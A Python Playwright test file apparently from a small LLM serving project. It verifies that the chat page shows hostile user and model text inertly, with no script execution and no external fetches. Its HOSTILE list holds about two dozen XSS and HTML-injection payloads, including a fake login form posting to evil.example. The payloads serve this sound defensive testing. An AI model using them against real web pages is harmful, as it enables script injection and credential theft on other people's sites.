"""Whatever a model or a user writes, the chat page shows as the text that it is: nothing runs, nothing is fetched."""

import json

import pytest

from nanollm.bundle import load_bundle
from tests.faults.served import write_bundle
from tests.serve.running import serving
from tests.serve.test_page import CHAT, REPLY, answer_with, ask, events

RUN = "window.ran=1"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    "<img src=http://evil.example/pixel.png>",
    "![](http://evil.example/markdown.png)",
    f"[click](javascript:{RUN})",
    f'<a href="javascript:{RUN}" autofocus onfocus={RUN}>here</a>',
    f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x></svg>",
    f"<svg><script href=data:text/javascript,{RUN} /></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}><video><source onerror={RUN}></video>",
    "<form action=http://evil.example><input name=key><button>Log in</button></form>",
    "<base href=http://evil.example/><link rel=stylesheet href=/x.css><style>*{display:none}</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<object data=http://evil.example/x></object><embed src=http://evil.example/x>",
    f"</div></article></template><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<scr<script>ipt>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    f"\u003cimg src=x onerror={RUN}\u003e \ufeff\u202e\u2028\u2029!",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} `${{{RUN}}}`",
    f"<img src=x onerror={RUN}",
    f'"><img src=x onerror={RUN}><"',
    "<plaintext><xmp><noscript>",
    "data: [DONE]\n\ndata: {}",
]


@pytest.fixture
def page(browser, tmp_path):
    """The page of a server, opened in a browser; it keeps what was asked for, and dialogs."""
    with serving(load_bundle(write_bundle(tmp_path / "bundle"))) as running:
        page = browser.new_page()
        page.goto(running.url)
        page.locator("#model-name", has_text="tiny").wait_for()
        yield page
        page.close()


def tags_of(page):
    """How often each kind of element is there, but for the lines that a screen reader is told."""
    return page.evaluate(
        """() => [...document.querySelectorAll("*:not(#spoken *)")].reduce((counts, { tagName }) => (
            { ...counts, [tagName]: (counts[tagName] ?? 0) + 1 }), {})"""
    )


def converse(page, texts):
    """Three exchanges: user and model both say a third of the texts, in pieces; they are the tokens, too."""
    page.click("#new")
    for third in (texts[number::3] for number in range(3)):
        tokens = [{"token": text, "bytes": list(text.encode()), "logprob": -1.0} for text in third]
        seen = [token | {"top_logprobs": tokens, "experts": [[0]]} for token in tokens]
        said = "\n".join(third)
        middle = len(said) // 2
        stream = events(said[:middle], ending="") + events(said[middle:], logprobs={"content": seen})
        answer_with(page, stream)
        ask(page, said)
        assert page.locator(REPLY).text_content() == said
        page.locator(".exchange:last-child .token").first.click()
        assert page.locator(".exchange:last-child .token").all_text_contents() == third
        page.unroute(CHAT)


def test_nothing_that_is_written_runs_or_fetches_anything(page, record_property):
    asked_for, dialogs = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.click("#inside")
    converse(page, [f"harmless {number}" for number in range(len(HOSTILE))])
    harmless = tags_of(page)
    page.on("request", lambda request: asked_for.append(request.url))
    converse(page, HOSTILE)
    assert tags_of(page) == harmless
    assert set(page.locator("#spoken *").evaluate_all("all => all.map(({ tagName }) => tagName)")) == {"P"}
    answer_with(page, json.dumps({"error": {"message": HOSTILE[1], "code": HOSTILE[1]}}), 400)
    ask(page, HOSTILE[1])
    page.reload()
    page.locator("#model-name", has_text="tiny").wait_for()
    page.wait_for_timeout(200)  # for what would run or load by itself
    thirds = ["\n".join(HOSTILE[number::3]) for number in range(3)]
    assert page.locator(".question > .text").all_text_contents() == [*thirds, HOSTILE[1]]
    assert page.locator(".reply > .text").all_text_contents()[:3] == thirds
    assert page.evaluate("window.ran") is None and dialogs == []
    own = (f"{page.url}page/", f"{page.url}v1/")
    assert {url for url in asked_for if not url.startswith(own)} <= {page.url, f"{page.url}favicon.ico"}
    record_property("figure", f"{len(HOSTILE)} texts, as question, reply, token and after a reload: 0 ran, 0 fetched")
